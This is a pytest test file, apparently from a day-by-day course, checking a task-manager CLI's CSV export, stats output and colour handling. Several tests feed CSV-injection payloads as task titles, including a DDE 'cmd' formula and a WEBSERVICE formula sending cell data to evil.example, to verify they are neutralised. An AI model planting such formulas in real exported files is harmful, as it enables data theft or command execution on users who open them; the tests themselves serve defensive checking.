"""Day 13: CSV export, the stats dashboard, and rich colour output only where it belongs."""

from __future__ import annotations

import csv
import io
import json
import os
from datetime import date, timedelta
from pathlib import Path

import pytest
from rich.console import Console

from cli import _print_tasks
from cli_support import AppContext
from conftest import RunCli
from export import CSV_COLUMNS, export_to_csv, neutralise
from manager import TaskManager
from models import Priority
from render import plain_stats, rich_stats_table, rich_task_table
from stats import compute_stats
from storage import JsonStorage

pytestmark = pytest.mark.day(13)

TODAY = date(2026, 3, 10)


def test_export_to_csv_writes_a_header_and_one_row_per_task(manager: TaskManager) -> None:
    manager.add("Buy milk, eggs", tags=["home", "shop"], due=date(2026, 3, 12))
    manager.add('Say "hi"', priority=Priority.HIGH)
    stream = io.StringIO()
    count = export_to_csv(manager, stream)
    rows = list(csv.DictReader(io.StringIO(stream.getvalue())))
    assert count == 2 and tuple(rows[0]) == CSV_COLUMNS, f"Called export_to_csv. Got {rows}"
    assert (rows[0]["title"], rows[0]["tags"], rows[0]["due"]) == (
        "Buy milk, eggs",
        "home;shop",
        "2026-03-12",
    )
    assert (rows[1]["title"], rows[1]["priority"], rows[1]["due"]) == ('Say "hi"', "high", ""), (
        rows[1]
    )


def test_cli_export_writes_a_csv_file(run_cli: RunCli, tmp_path: Path) -> None:
    run_cli("add", "one")
    run_cli("add", "two")
    target = tmp_path / "out.csv"
    result = run_cli("export", str(target))
    titles = [row["title"] for row in csv.DictReader(target.open(encoding="utf-8"))]
    assert result.exit_code == 0 and titles == ["one", "two"], (
        f"Called export out.csv. Got {titles}"
    )


def test_cli_export_dash_prints_csv_to_stdout(run_cli: RunCli) -> None:
    run_cli("add", "one")
    lines = run_cli("export", "-").stdout.splitlines()
    assert lines[0] == ",".join(CSV_COLUMNS) and lines[1].startswith("1,one,pending"), (
        f"Got {lines}"
    )


def test_stats_counts_total_completed_percentage_and_overdue(manager: TaskManager) -> None:
    manager.add("late", due=TODAY - timedelta(days=1), priority=Priority.HIGH)
    manager.add("fine", due=TODAY + timedelta(days=1))
    manager.add("done late", due=TODAY - timedelta(days=5))
    manager.complete(3)
    stats = compute_stats(manager, TODAY)
    got = (stats.total, stats.completed, stats.pending, stats.completed_percent, stats.overdue)
    assert got == (3, 1, 2, 33.3, 1), (
        f"Called compute_stats. Got {got}, expected (3, 1, 2, 33.3, 1)"
    )
    assert stats.pending_by_priority == {Priority.HIGH: 1, Priority.MEDIUM: 1, Priority.LOW: 0}


def test_plain_stats_prints_one_padded_line_per_figure(manager: TaskManager) -> None:
    manager.add("late", due=TODAY - timedelta(days=1), priority=Priority.HIGH)
    manager.add("fine", due=TODAY + timedelta(days=1))
    manager.complete(manager.add("done").id)
    text = plain_stats(compute_stats(manager, TODAY))
    expected = "\n".join(
        [
            "Total      3",
            "Completed  1 (33.3%)",
            "Pending    2 (high 1, medium 1, low 0)",
            "Overdue    1",
        ]
    )
    assert text == expected, f"Called plain_stats. Got {text!r}, expected {expected!r}"


def test_rich_stats_table_draws_with_and_without_overdue_tasks(manager: TaskManager) -> None:
    manager.add("late", due=TODAY - timedelta(days=1))
    for tasks in ([], list(manager)):
        console = Console(record=True, width=100)
        console.print(rich_stats_table(compute_stats(tasks, TODAY)))
        text = console.export_text()
        assert "Total" in text and "Overdue" in text, f"Drew rich_stats_table. Got {text!r}"


def test_list_on_a_colour_terminal_prints_the_rich_table(
    tasks_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with JsonStorage(tasks_file).edit() as manager:
        manager.add("late", priority=Priority.HIGH, due=date(2000, 1, 1))
    tasks = JsonStorage(tasks_file).load().filter()
    _print_tasks(AppContext(JsonStorage(tasks_file), color=True), tasks, False)
    out = capsys.readouterr().out
    assert "(overdue)" in out and "STATUS" not in out, (
        f"Called _print_tasks with colour. Got {out!r}, expected the rich table, not plain text"
    )


def test_stats_of_no_tasks_is_zero_percent_not_a_crash() -> None:
    stats = compute_stats([], TODAY)
    assert (stats.total, stats.completed_percent) == (0, 0.0), f"Got {stats}"


def test_cli_stats_json_is_machine_readable(run_cli: RunCli) -> None:
    run_cli("add", "a")
    run_cli("add", "b", "--due", "2000-01-01")
    run_cli("complete", "1")
    data = json.loads(run_cli("stats", "--json").stdout)
    expected = {
        "total": 2,
        "completed": 1,
        "pending": 1,
        "completed_percent": 50.0,
        "overdue": 1,
        "pending_by_priority": {"high": 0, "medium": 1, "low": 0},
    }
    assert data == expected, f"Called stats --json. Got {data}, expected {expected}"


def test_cli_stats_plain_output_lists_each_figure(run_cli: RunCli) -> None:
    run_cli("add", "a")
    run_cli("complete", "1")
    out = run_cli("stats").stdout
    for expected in ("Total      1", "Completed  1 (100.0%)", "Overdue    0"):
        assert expected in out, f"Called stats. Got {out!r}, expected a line {expected!r}"


def test_output_to_a_pipe_has_no_colour_codes(run_cli: RunCli) -> None:
    run_cli("add", "a", "-p", "high", "-d", "2000-01-01")
    for args, expected in (
        (["list"], "(overdue)"),
        (["stats"], "Overdue    1"),
        (["--no-color", "stats"], "Total      1"),
    ):
        result = run_cli(*args)
        assert result.exit_code == 0 and expected in result.stdout, (
            f"Called {args}. Got exit {result.exit_code}, output {result.output!r}, "
            f"expected {expected!r}"
        )
        assert "\x1b[" not in result.stdout, (
            f"Called {args} into a pipe. Got ANSI codes in {result.stdout!r}"
        )


@pytest.mark.hint("Put the priority in a rich Text styled PRIORITY_STYLE[task.priority].")
def test_rich_table_colours_priority_and_overdue_dates(manager: TaskManager) -> None:
    manager.add("urgent and late", priority=Priority.HIGH, due=TODAY - timedelta(days=1))
    console = Console(record=True, force_terminal=True, color_system="standard", width=100)
    console.print(rich_task_table(list(manager), TODAY))
    styled = console.export_text(styles=True)
    assert "urgent and late" in styled and "(overdue)" in styled, f"Got {styled!r}"
    assert "\x1b[1;31mhigh" in styled, (
        f"Rendered a HIGH task. Got no bold red priority in {styled!r}"
    )


@pytest.mark.hint(
    "OWASP's CSV-injection advice: a cell starting with =, +, -, @, tab or carriage return"
    " gets a single quote in front."
)
@pytest.mark.parametrize(
    "title",
    ['=HYPERLINK("http://evil.example","Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"],
    ids=["equals", "plus", "minus", "at"],
)
def test_csv_export_neutralises_spreadsheet_formulas_in_titles_and_tags(
    manager: TaskManager, title: str
) -> None:
    manager.add(title, tags=[title[0] + "cmd", "home"])
    stream = io.StringIO()
    export_to_csv(manager, stream)
    row = next(csv.DictReader(io.StringIO(stream.getvalue())))
    got = (row["title"], row["tags"])
    expected = ("'" + title, "'" + title[0] + "cmd;home")
    assert got == expected, (
        f"Exported title {title!r}. Got (title, tags) {got}, expected {expected}"
    )


@pytest.mark.parametrize(
    ("cell", "expected"),
    [("\tx", "'\tx"), ("\rx", "'\rx"), ("=1", "'=1"), ("a=1", "a=1"), ("", ""), ("'=1", "'=1")],
    ids=["tab", "carriage-return", "equals", "inner-equals", "empty", "already-quoted"],
)
def test_neutralise_quotes_only_cells_that_start_a_formula(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected, f"Called neutralise({cell!r}). Got {neutralise(cell)!r}"


def test_cli_export_file_neutralises_formulas(run_cli: RunCli, tmp_path: Path) -> None:
    run_cli("add", '=WEBSERVICE("http://evil.example/?"&A1)')
    target = tmp_path / "out.csv"
    run_cli("export", str(target))
    titles = [row["title"] for row in csv.DictReader(target.open(encoding="utf-8"))]
    assert titles == ['\'=WEBSERVICE("http://evil.example/?"&A1)'], (
        f"Called export out.csv on a formula title. Got {titles}"
    )


def test_cli_export_onto_a_read_only_file_gives_one_line_and_leaves_it(
    run_cli: RunCli, tmp_path: Path
) -> None:
    run_cli("add", "one")
    target = tmp_path / "out.csv"
    target.write_text("keep\n", encoding="utf-8")
    os.chmod(target, 0o444)
    try:
        result = run_cli("export", str(target))
    finally:
        os.chmod(target, 0o644)
    assert result.exit_code == 1 and result.stderr.count("\n") == 1, (
        f"Called export onto a read-only file. Got exit {result.exit_code}, {result.stderr!r}"
    )
    assert target.read_text(encoding="utf-8") == "keep\n", "Got the read-only file replaced"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_cli_export_onto_a_named_pipe_gives_one_line(run_cli: RunCli, tmp_path: Path) -> None:
    run_cli("add", "one")
    target = tmp_path / "out.csv"
    os.mkfifo(target)
    result = run_cli("export", str(target))
    assert result.exit_code == 1 and result.stderr.startswith("Error: cannot write"), (
        f"Called export onto a named pipe. Got exit {result.exit_code}, {result.stderr!r}"
    )
    assert result.stderr.count("\n") == 1 and target.is_fifo(), result.stderr
